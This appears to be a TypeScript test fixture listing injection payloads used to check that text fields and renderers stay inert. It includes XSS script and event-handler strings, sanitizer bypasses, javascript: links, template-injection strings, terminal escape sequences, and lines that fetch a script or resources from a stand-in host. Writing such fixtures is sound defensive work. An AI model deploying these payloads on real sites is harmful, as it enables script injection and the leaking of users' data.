/** Texts that try to be more than text, in each place where agents and people write. Each that runs sets `window.canary`. */

const run = 'window.canary=1';
const away = 'https://collector.invalid/x';
const esc = '\u001B';

const elements = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'iframe',
  'input',
  'details',
  'marquee',
  'object',
  'form',
  'math',
];
const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];

const handlers = elements.flatMap((element) =>
  events.map((event) => `<${element} src=x ${event}=${run} autofocus open tabindex=0>`),
);

const scripts = [
  `<script>${run}</script>`,
  `<script src="${away}.js"></script>`,
  `"><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--></style><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<svg/onload=${run}//`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.canary=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<iframe src="javascript:parent.canary=1"></iframe>`,
  `<a href="javascript:${run}">press me</a>`,
  `<a href=" java\tscript:${run}">press me</a>`,
  `<form action="javascript:${run}"><button>press me</button></form>`,
  `<base href="${away}">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<link rel="stylesheet" href="${away}.css">`,
  `<style>@import url(${away}); * { display: none !important }</style>`,
  `<div style="position:fixed;inset:0;background:url(${away})">over all</div>`,
  `<img src="${away}">`,
  `<video poster="${away}"></video>`,
  `<object data="${away}"></object>`,
  `<embed src="${away}">`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `[press me](javascript:${run})`,
  `![](${away})`,
  `[a](data:text/html,<script>${run}</script>)`,
  `vbscript:${run}`,
  `//collector.invalid/x`,
];

const templates = [
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{{7*7}}`,
  `__proto__`,
  `constructor`,
  `'; ${run}; '`,
  `";${run};"`,
  '`${globalThis.canary=1}`',
];

const shapes = [
  'x'.repeat(300),
  'W'.repeat(120),
  '🙂'.repeat(80),
  'é'.normalize('NFD').repeat(90),
  `Z${'\u0310\u0311\u0312'.repeat(60)}algo`,
  '\u202Etxet desrever a',
  'a\u2066b\u2067c\u2068d',
  '\u200Bhidden\u200Dwords\uFEFF',
  `${esc}[31mred${esc}[0m ${esc}[2J${esc}[H`,
  `${esc}]8;;${away}\u0007a link${esc}]8;;\u0007`,
  `${esc}]0;title\u0007`,
  'bell\u0007back\u0008tab\u000Bfeed\u000C',
  '\u0085next\u2028line\u2029paragraph',
  'مرحبا بالعالم في العنوان',
  '漢字'.repeat(60),
];

/** More than a hundred, each once. */
export const hostileTexts: readonly string[] = [...scripts, ...links, ...templates, ...shapes, ...handlers];

const bell = '\u0007';
const titles = new RegExp(String.raw`${esc}\][^${bell}${esc}]*(?:${bell}|${esc}\\)?`, 'gu');
const sequences = new RegExp(String.raw`${esc}\[[0-?]*[ -/]*[@-~]`, 'gu');

/** How such a text is told apart in what was drawn: its own letters without those that are taken out. */
export function readable(text: string): string {
  return text
    .replaceAll(titles, '')
    .replaceAll(sequences, '')
    .replaceAll(/[\p{Cc}\p{Cf}]/gu, '')
    .replaceAll(/\s+/gu, '');
}
